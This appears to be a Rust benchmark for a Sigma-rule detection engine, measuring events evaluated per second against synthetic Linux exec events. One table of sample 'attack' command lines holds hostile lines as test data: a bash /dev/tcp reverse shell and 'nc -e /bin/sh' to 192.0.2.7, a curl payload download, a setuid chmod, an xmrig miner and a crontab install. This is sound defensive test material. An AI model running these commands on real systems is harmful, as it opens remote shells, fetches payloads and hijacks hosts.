//! How many exec events a second does one core evaluate against SigmaHQ's rules?
//!
//! Prints how many rule files load, can fire or cannot and why; then, over several rounds, the
//! rate of evaluation and, as the limit that no matcher can beat, of only reading and folding the
//! fields that the rules name.

use std::{
    collections::BTreeMap,
    hint::black_box,
    path::{Path, PathBuf},
    time::Instant,
};

use anyhow::{Context as _, Result, bail, ensure};
use audit_detect::{Bucket, RuleSet};
use audit_proto::v1::{Event, Kind, Parent, Process};

const HELP: &str = "\
Measures rule evaluation on one core.

Usage: cargo bench -p audit-detect --bench detect -- [OPTIONS]

Options:
  --quick        fewer rounds, for a first look
  --rules DIR    rules to load [default: ../shared/sigma/rules beside the workspace,
                 else our own]
  --json FILE    also write the figures as JSON
  -h, --help     this text";

/// Distinct events, so that neither the branch predictor nor the cache learns them by heart.
const EVENTS: usize = 20_000;

struct Options {
    quick: bool,
    rules: PathBuf,
    json: Option<PathBuf>,
}

fn main() -> Result<()> {
    let Some(options) = parse(std::env::args().skip(1))? else {
        println!("{HELP}");
        return Ok(());
    };
    ensure!(
        options.rules.is_dir(),
        "{}: no such folder; give --rules DIR",
        options.rules.display()
    );
    let mut figures = load(&options.rules);
    // As SigmaHQ lays its rules out; another folder is taken whole.
    let exec = options.rules.join("linux/process_creation");
    let exec = if exec.is_dir() {
        exec
    } else {
        options.rules.clone()
    };
    let (exec_rules, _) = RuleSet::load(&[exec]);
    ensure!(
        !exec_rules.is_empty(),
        "no process_creation rules in {}",
        options.rules.display()
    );
    measure(
        &exec_rules,
        if options.quick { 5 } else { 15 },
        &mut figures,
    );
    if let Some(path) = options.json {
        let text = serde_json::to_string_pretty(&serde_json::Value::Object(figures))?;
        std::fs::write(&path, text + "\n").with_context(|| path.display().to_string())?;
    }
    Ok(())
}

fn parse(mut args: impl Iterator<Item = String>) -> Result<Option<Options>> {
    let beside = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/sigma/rules");
    let mut options = Options {
        quick: false,
        rules: if beside.is_dir() { beside } else { own() },
        json: None,
    };
    while let Some(arg) = args.next() {
        let mut value = || args.next().with_context(|| format!("{arg} needs a value"));
        match arg.as_str() {
            "--quick" => options.quick = true,
            "--rules" => options.rules = value()?.into(),
            "--json" => options.json = Some(value()?.into()),
            "-h" | "--help" => return Ok(None),
            // Cargo passes this to every bench.
            "--bench" => {}
            other => bail!("unknown argument {other:?}\n\n{HELP}"),
        }
    }
    Ok(Some(options))
}

/// SigmaHQ's rules are not part of the project.
fn own() -> PathBuf {
    let own = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    eprintln!("SKIPPED: SigmaHQ's rules are not beside the workspace; measuring our own pack");
    own
}

type Figures = serde_json::Map<String, serde_json::Value>;

/// What of the whole collection is evaluated.
fn load(dir: &Path) -> Figures {
    let started = Instant::now();
    let (rules, report) = RuleSet::load(&[dir]);
    let load_ms = started.elapsed().as_secs_f64() * 1e3;
    println!("{} rule files loaded in {load_ms:.0} ms", report.files);
    println!("  {:>4}  can fire", report.loaded);
    for bucket in Bucket::ALL {
        let count = rules.iter().filter(|info| info.bucket == bucket).count();
        if count > 0 {
            println!("  {count:>4}    {}", bucket.name());
        }
    }
    println!("  {:>4}  cannot fire here", report.idle.len());
    for (reason, count) in report.idle_by_reason() {
        println!("  {count:>4}    {reason}");
    }
    println!("  {:>4}  broken", report.broken.len());
    for broken in &report.broken {
        println!("          {broken}");
    }
    for inert in &report.inert {
        println!("  note: {inert}");
    }
    let idle: BTreeMap<_, _> = report.idle_by_reason().into_iter().collect();
    let mut figures = Figures::new();
    figures.insert("rule_files".into(), report.files.into());
    figures.insert("rules_loaded".into(), report.loaded.into());
    figures.insert("rules_idle".into(), report.idle.len().into());
    figures.insert("rules_broken".into(), report.broken.len().into());
    figures.insert("idle_by_reason".into(), serde_json::json!(idle));
    figures.insert("load_ms".into(), load_ms.into());
    figures
}

fn measure(rules: &RuleSet, rounds: usize, figures: &mut Figures) {
    let events = events();
    let argv_bytes: usize = events.iter().map(command_line_bytes).sum();
    let mut scratch = rules.scratch();
    let mut matched = Vec::new();
    let mut alerts = 0;
    let mut evaluate = || {
        alerts = 0;
        for event in &events {
            rules.evaluate(black_box(event), &mut scratch, &mut matched);
            alerts += matched.len();
        }
    };
    let evaluated = rate(rounds, &mut evaluate);
    let mut text = String::new();
    let touched = rate(rounds, &mut || {
        for event in &events {
            touch(black_box(event), &mut text);
            black_box(&text);
        }
    });
    println!();
    println!(
        "{} process_creation rules, {} distinct exec events of {} bytes of command line on average",
        rules.len(),
        events.len(),
        argv_bytes / events.len()
    );
    println!("one core, {rounds} rounds            median events/s       ns an event");
    for (name, (median, worst)) in [("evaluate", evaluated), ("read and fold only", touched)] {
        println!(
            "  {name:<28} {median:>15.0} {:>17.0}   (worst round {worst:.0}/s)",
            1e9 / median
        );
    }
    println!(
        "  alerts: {alerts} ({:.2} % of events)",
        100.0 * alerts as f64 / EVENTS as f64
    );
    figures.insert("rules_measured".into(), rules.len().into());
    figures.insert("events_per_second".into(), evaluated.0.into());
    figures.insert("events_per_second_worst".into(), evaluated.1.into());
    figures.insert("limit_events_per_second".into(), touched.0.into());
    figures.insert("alerts".into(), alerts.into());
}

/// Median and worst events a second.
fn rate(rounds: usize, work: &mut dyn FnMut()) -> (f64, f64) {
    work();
    let mut rates: Vec<f64> = (0..rounds)
        .map(|_| {
            let started = Instant::now();
            work();
            EVENTS as f64 / started.elapsed().as_secs_f64()
        })
        .collect();
    rates.sort_by(f64::total_cmp);
    (rates[rates.len() / 2], rates[0])
}

fn command_line_bytes(event: &Event) -> usize {
    let argv = event.process.as_ref().map_or(&[][..], |p| &p.argv);
    argv.iter().map(|a| a.len() + 1).sum()
}

fn touch(event: &Event, text: &mut String) {
    text.clear();
    if let (Some(process), Some(parent)) = (&event.process, &event.parent) {
        text.push_str(&process.exe);
        text.push_str(&parent.exe);
        for arg in process.argv.iter().chain(&parent.argv) {
            text.push_str(arg);
            text.push(' ');
        }
    }
    text.make_ascii_lowercase();
}

/// A host's day: mostly compilers and small tools started by scripts, administration, some of it
/// close to what rules look for, and one attack in a hundred.
fn events() -> Vec<Event> {
    // A fixed xorshift: the same events in every run.
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut random = move |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 16) as usize % below
    };
    (0..EVENTS)
        .map(|number| {
            let (share, pick) = (random(100), random(1 << 20));
            let (exe, line) = match share {
                0..40 => compile(number, pick),
                40..70 => tool(number, pick),
                70..99 => administration(number, pick),
                _ => attack(number, pick),
            };
            exec(&exe, &line, number)
        })
        .collect()
}

fn compile(number: usize, pick: usize) -> (String, String) {
    match pick % 3 {
        0 => (
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1".into(),
            format!(
                "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -I ./include -I ./arch/x86/include \
                 -D __KERNEL__ -D CONFIG_{pick} drivers/net/unit{number}.c -quiet -dumpbase \
                 unit{number}.c -mtune=generic -march=x86-64 -O2 -Wall -o /tmp/cc{pick:x}.s"
            ),
        ),
        1 => (
            "/home/dev/.rustup/toolchains/stable/bin/rustc".into(),
            format!(
                "rustc --crate-name unit{number} --edition=2024 src/lib.rs --error-format=json \
                 --crate-type lib --emit=dep-info,metadata,link -C opt-level=3 -C metadata={pick:016x} \
                 --out-dir /home/dev/work/target/release/deps -L dependency=/home/dev/work/target"
            ),
        ),
        _ => (
            "/usr/bin/x86_64-linux-gnu-as".into(),
            format!("as --64 -o unit{number}.o /tmp/cc{pick:x}.s"),
        ),
    }
}

fn tool(number: usize, pick: usize) -> (String, String) {
    const TOOLS: [(&str, &str); 12] = [
        (
            "/usr/bin/dash",
            "sh -c 'test -e /var/run/unit.pid && echo ok'",
        ),
        (
            "/usr/bin/sed",
            "sed -e s/@VERSION@/1.2.3/ -n /etc/template.in",
        ),
        ("/usr/bin/gawk", "awk '{ print $1 }' /proc/loadavg"),
        ("/usr/bin/grep", "grep -q ^processor /proc/cpuinfo"),
        ("/usr/bin/cat", "cat /etc/os-release"),
        ("/usr/bin/mkdir", "mkdir -p /home/dev/work/build"),
        ("/usr/bin/rm", "rm -f /home/dev/work/build/stamp"),
        (
            "/usr/bin/bash",
            "/bin/bash ./configure --prefix=/usr --sysconfdir=/etc",
        ),
        (
            "/usr/bin/git",
            "git -c core.quotepath=off status --porcelain -z",
        ),
        ("/usr/bin/python3.11", "python3 -m pytest -q tests/unit"),
        ("/usr/bin/find", "find . -name '*.o' -newer stamp -print0"),
        ("/usr/bin/uname", "uname -m"),
    ];
    let (exe, line) = TOOLS[pick % TOOLS.len()];
    (exe.into(), format!("{line} unit{number}"))
}

fn administration(number: usize, pick: usize) -> (String, String) {
    const COMMANDS: [(&str, &str); 12] = [
        (
            "/usr/bin/systemctl",
            "systemctl is-active --quiet ssh.service",
        ),
        (
            "/usr/bin/apt-get",
            "apt-get -y install --no-install-recommends pkg",
        ),
        ("/usr/bin/dpkg", "dpkg --status-fd 12 --configure --pending"),
        ("/usr/sbin/sshd", "sshd: deploy [priv]"),
        ("/usr/bin/sudo", "sudo -n -u postgres psql -c 'select 1'"),
        ("/usr/bin/curl", "curl -fsS http://127.0.0.1:9090/-/healthy"),
        (
            "/usr/bin/journalctl",
            "journalctl -u app --since today --no-pager",
        ),
        ("/usr/bin/tar", "tar -czf /var/backups/etc.tar.gz /etc"),
        ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
        ("/usr/bin/ps", "ps -eo pid,ppid,comm,args"),
        ("/usr/bin/docker", "docker ps --format '{{.ID}} {{.Names}}'"),
        (
            "/usr/bin/rsync",
            "rsync -a --delete /srv/data/ backup:/srv/data/",
        ),
    ];
    let (exe, line) = COMMANDS[pick % COMMANDS.len()];
    (exe.into(), format!("{line} job{number}"))
}

fn attack(number: usize, pick: usize) -> (String, String) {
    const ATTACKS: [(&str, &str); 8] = [
        (
            "/usr/bin/bash",
            "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
        ),
        ("/usr/bin/nc.traditional", "nc -e /bin/sh 192.0.2.7 4444"),
        (
            "/usr/bin/python3.11",
            "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
        ),
        ("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
        (
            "/usr/bin/curl",
            "curl -s http://192.0.2.7/a.sh -o /tmp/.x/a.sh",
        ),
        ("/usr/bin/chmod", "chmod u+s /tmp/.x/sh"),
        (
            "/tmp/xmrig",
            "/tmp/xmrig -o stratum+tcp://pool.example:3333 --donate-level=1",
        ),
        ("/usr/bin/crontab", "crontab /tmp/.x/tab"),
    ];
    let (exe, line) = ATTACKS[pick % ATTACKS.len()];
    (exe.into(), format!("{line} {number}"))
}

fn exec(exe: &str, line: &str, number: usize) -> Event {
    let argv = line.split(' ').map(str::to_owned).collect();
    Event {
        id: format!("5f2ac01b9d3e-process-0-{number}"),
        kind: Kind::Exec as i32,
        process: Some(Process {
            pid: Some(1000 + number as i64),
            exe: exe.to_owned(),
            exe_invoked: exe.replace("/usr/bin/", "/bin/"),
            argv,
            cwd: "/home/dev/work".into(),
            uid: Some(1000),
            euid: Some(1000),
            user: "dev".into(),
            effective_user: "dev".into(),
            ..Process::default()
        }),
        parent: Some(Parent {
            pid: Some(999),
            exe: "/usr/bin/make".into(),
            argv: vec!["make".into(), "-j2".into(), "all".into()],
            ..Parent::default()
        }),
        ..Event::default()
    }
}
